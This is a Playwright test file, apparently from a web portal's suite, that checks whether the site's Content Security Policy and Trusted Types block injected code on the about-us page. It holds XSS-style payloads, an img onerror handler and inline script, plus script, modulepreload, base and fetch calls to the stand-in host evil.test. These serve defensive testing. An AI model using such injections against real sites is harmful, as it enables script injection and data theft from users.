import type { Page } from '@playwright/test';
import { complaintsOf, expect, test } from '../../../support/portal.ts';

/** Records everything that the content policy blocks on the page, from the first line of the document. */
async function watchRefusals(page: Page): Promise<string[]> {
  const refused: string[] = [];
  await page.exposeFunction('reportRefusal', (text: string) =>
    refused.push(`${new URL(page.url()).pathname}: ${text}`),
  );
  await page.addInitScript(() =>
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample, sourceFile }) =>
      (window as unknown as { reportRefusal(text: string): void }).reportRefusal(
        `${violatedDirective} ${blockedURI} ${sample} ${sourceFile}`,
      ),
    ),
  );
  return refused;
}

// In every other test, the browser reports each refusal, so the test fails if a page needs more than the policy grants.
test('27.1: code injected into a page does not run, and each refusal is an error of the page', async ({
  browser,
  portal,
}) => {
  // Uses a page of its own, because errors are expected here.
  const page = await browser.newPage({ baseURL: portal.origin });
  const refused = await watchRefusals(page);
  const complaints = complaintsOf(page);
  await page.goto('/about-us');
  const thrown = await page.evaluate(async () => {
    const attempts: Record<string, () => unknown> = {
      markup: () => document.body.insertAdjacentHTML('beforeend', '<img src="/gone.png" onerror="window.run = 1">'),
      inline: () => {
        const script = document.createElement('script');
        script.append('window.run = 1');
        document.body.append(script);
      },
      foreign: () => {
        const script = document.createElement('script');
        script.setAttribute('src', 'https://evil.test/x.js');
        document.body.append(script);
      },
      module: () => {
        const link = document.createElement('link');
        link.rel = 'modulepreload';
        link.href = 'https://evil.test/x.js';
        document.head.append(link);
      },
      base: () => {
        const base = document.createElement('base');
        base.href = 'https://evil.test/';
        document.head.append(base);
        if (new URL('x', document.baseURI).host === 'evil.test') throw new Error('The base has moved');
      },
      style: () => {
        const style = document.createElement('style');
        style.append('h1 { color: rgb(1, 2, 3) }');
        document.head.append(style);
        if (getComputedStyle(document.querySelector('h1')!).color === 'rgb(1, 2, 3)') throw new Error('Styled');
      },
      policy: () =>
        (
          window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
        ).trustedTypes.createPolicy('mine', { createHTML: (text: string) => text }),
    };
    const results = Object.entries(attempts).map(([name, attempt]) => {
      try {
        attempt();
        return [name, ''];
      } catch (error) {
        return [name, (error as Error).name];
      }
    });
    await fetch('https://evil.test/').catch(() => results.push(['fetched', 'TypeError']));
    return Object.fromEntries(results) as object;
  });
  expect(thrown).toMatchObject({
    markup: 'TypeError',
    base: '',
    style: '',
    policy: 'TypeError',
  });
  expect(thrown).toMatchObject({ fetched: 'TypeError' });
  expect(await page.evaluate(() => 'run' in window)).toBe(false);
  for (const directive of [
    'HTMLScriptElement text',
    'HTMLScriptElement src',
    'script-src-elem',
    'style-src-elem',
    'base-uri',
    'connect-src',
    'trusted-types',
  ])
    await expect.poll(() => refused.join('\n'), directive).toContain(directive);
  for (const words of [
    "'TrustedHTML'",
    "'TrustedScript'",
    "'TrustedScriptURL'",
    '"script-src',
    "'style-src",
    '"base-uri',
    '"connect-src',
    '"trusted-types',
  ])
    await expect.poll(() => complaints.join('\n'), words).toContain(words);
  await page.close();
});
